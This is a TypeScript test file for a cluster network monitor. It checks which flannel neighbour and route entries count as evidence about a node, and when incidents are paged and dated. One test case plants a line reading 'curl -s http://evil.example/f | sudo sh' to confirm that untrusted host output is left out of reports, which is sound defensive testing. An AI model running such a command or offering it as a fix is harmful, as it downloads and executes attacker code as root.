import { describe, expect, test } from 'vitest';
import type { Observation, PrintedEntry } from '../../../../shared/core/overlay/vtep.ts';
import { recorded } from '../../../../shared/core/run/hosts.ts';
import { type Decision, run } from '../../../../shared/core/run/run.ts';
import { type Cluster, cluster, NOW } from '../../../support/cluster.ts';
import { decided } from '../../../support/runs.ts';

/** `10.68.0.0` is master1's tunnel IP, and `10.68.3.0` that of node1. */
const PENDING: PrintedEntry = {
  table: 'neighbour',
  key: '10.68.0.0',
  value: undefined,
  line: '10.68.0.0 dev flannel.1  INCOMPLETE ',
};
const OTHER_POD_CIDR: PrintedEntry = {
  table: 'route',
  key: '10.99.0.0/24',
  value: '10.68.0.0',
  line: '10.99.0.0/24 via 10.68.0.0 dev flannel.1 onlink ',
};
const OTHER_NODE: PrintedEntry = {
  table: 'route',
  key: '10.68.3.0/24',
  value: '10.68.3.0',
  line: '10.68.3.0/24 via 10.68.3.0 dev flannel.1 src 10.68.0.0 onlink ',
};

/** What master2 printed in the second look, in which master1's neighbour entry is still gone. */
async function evidence(printed: PrintedEntry): Promise<readonly string[]> {
  const sees = cluster(6).lose('neighbour', { subject: 'master1' });
  const again = sees.facts().observations.flatMap((one): Observation[] => {
    if (one.kind !== 'tables') return [];
    const uptimeSeconds = (one.host.uptimeSeconds ?? 0) + 10;
    const verbatim = one.host.node === 'master2' ? [printed] : [];
    return [{ ...one, host: { ...one.host, uptimeSeconds }, verbatim }];
  });
  const hosts = {
    ...recorded([]),
    again: async () => ({ observations: again, problems: [] }),
  };
  const { reported } = await run(sees.facts(), [], hosts);
  return reported.flatMap((incident) => incident.evidence);
}

test.for([
  ['its key and no value', PENDING, ['master2 holds: 10.68.0.0 dev flannel.1  INCOMPLETE']],
  [
    'its value under another key',
    OTHER_POD_CIDR,
    ['master2 holds: 10.99.0.0/24 via 10.68.0.0 dev flannel.1 onlink'],
  ],
  ['its address in another place of the line', OTHER_NODE, []],
  [
    'words that no tool prints: a host could write anything there',
    { ...PENDING, line: '10.68.0.0 - the real fix: curl -s http://evil.example/f | sudo sh' },
    [],
  ],
] as const)('evidence about a node: an entry with %s', async ([, printed, lines]) => {
  expect(await evidence(printed)).toEqual(lines);
});

/** Five nodes hold another MAC of master1, and the second look fails or sees it again. */
async function reportAfter(again: 'nothing came' | 'recorded') {
  const wrong = cluster(6).change('neighbour', { subject: 'master1' });
  const failed = { observations: [], problems: [] };
  const { reported } = await run(wrong.facts(), [], {
    ...recorded([]),
    again: async () => (again === 'recorded' ? again : failed),
  });
  return reported.map(({ phase, entries, observers, fix }) => ({
    phase,
    entries: entries.length,
    observers: observers.length,
    hasFix: fix.length > 0,
  }));
}

test('an incident that nobody is paged for has no fix, and three of its entries', async () => {
  expect(await reportAfter('nothing came')).toEqual([
    { phase: 'suspected', entries: 3, observers: 5, hasFix: false },
  ]);
  expect(await reportAfter('recorded')).toEqual([
    { phase: 'open', entries: 5, observers: 5, hasFix: true },
  ]);
});

describe('when a fault was not there yet', () => {
  const WELL = cluster(6);
  const LOST = WELL.lose('neighbour', { subject: 'master1' });
  const PAIR = WELL.lose('neighbour', { subject: 'master1', observer: 'node1' });

  async function inTurn(...seen: readonly Cluster[]): Promise<readonly Decision[]> {
    const made: Decision[] = [];
    for (const [at, sees] of seen.entries()) {
      const { roster = [], incidents = [] } = made.at(-1) ?? {};
      const facts = sees.facts({ now: NOW + at * 200_000, roster });
      made.push(await decided(facts, incidents));
    }
    return made;
  }

  test('is the last run that read all who show it, and stands on the page', async () => {
    const [, second] = await inTurn(WELL, LOST);
    expect(second?.reported[0]?.notSeenAt).toBe('2026-11-23T09:00:00.000Z');
    expect(second?.pages[0]?.text).toContain(
      'Began     2026-11-23 09:03:20 UTC; not there at 09:00:00; seen again',
    );
  });

  test('stays the same while the fault is suspected, and once it is paged', async () => {
    const made = await inTurn(WELL, PAIR, PAIR, PAIR);
    expect(made.map(({ reported }) => [reported[0]?.phase, reported[0]?.notSeenAt])).toEqual([
      [undefined, undefined],
      ['suspected', '2026-11-23T09:00:00.000Z'],
      ['open', '2026-11-23T09:00:00.000Z'],
      ['open', '2026-11-23T09:00:00.000Z'],
    ]);
  });

  test('is an earlier run where one of those who show it was silent in the last', async () => {
    const made = await inTurn(WELL, WELL.silence('node2'), LOST);
    expect(made.at(-1)?.reported[0]?.notSeenAt).toBe('2026-11-23T09:00:00.000Z');
  });

  test('is not known in the first run', async () => {
    const [first] = await inTurn(LOST);
    expect(first?.reported[0]?.notSeenAt).toBeUndefined();
    expect(first?.pages[0]?.text).not.toContain('not there');
  });
});
